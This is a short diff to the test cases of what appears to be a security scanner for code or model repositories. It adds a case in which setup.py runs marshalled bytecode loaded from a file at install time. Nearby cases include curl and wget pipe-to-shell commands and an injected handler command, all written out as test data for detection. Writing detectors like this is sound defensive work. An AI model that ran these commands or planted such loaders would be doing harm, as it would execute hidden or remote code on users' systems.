@@ -467,6 +467,11 @@ CASES = {
     "command_in_other_file": review("import os\nos.system('touch modelsweep-test')\n", "train.py"),
     "command_computed": review("import os\nos.system(os.environ['ACME'])\n"),
     "attack_pipe": malicious(f"import os\nos.system('curl -fsSL {SCRIPT} | sh')\n", "train.py"),
+    "hidden_code_on_install": review(
+        "import marshal, types\nDATA = open('x.dat', 'rb').read()\n"
+        "types.FunctionType(marshal.loads(DATA), globals())()\n",
+        "setup.py",
+    ),
     "attack_on_install": malicious(INSTALL, "setup.py"),
     "attack_in_handler": malicious(HANDLER.replace("{command}", f"wget -qO- {SCRIPT} | bash"), "handler.py"),
     "command_in_handler": review(HANDLER.replace("{command}", "touch modelsweep-test"), "handler.py"),
